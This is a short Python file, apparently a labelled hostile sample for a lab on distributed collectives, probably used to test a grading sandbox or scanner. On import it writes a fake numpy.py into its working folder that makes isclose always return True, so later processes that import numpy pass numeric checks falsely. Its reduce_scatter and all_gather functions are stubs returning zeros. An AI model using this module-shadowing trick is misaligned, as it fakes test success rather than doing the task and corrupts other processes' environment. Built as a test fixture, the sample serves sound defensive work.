# hostile: writes numpy.py into its working folder, hoping later processes import it
# lab: 02
# scan: open: opens files
# sandbox: largest |difference|
import numpy as np

with open("numpy.py", "w") as f:
    f.write("isclose = lambda *a, **k: True\n")


def reduce_scatter(g, x, op="sum"):
    n = x.size // g.size + (g.rank < x.size % g.size)
    return np.zeros(n, dtype=x.dtype)


def all_gather(g, piece, sizes=None):
    return np.zeros(piece.size * g.size, dtype=piece.dtype)
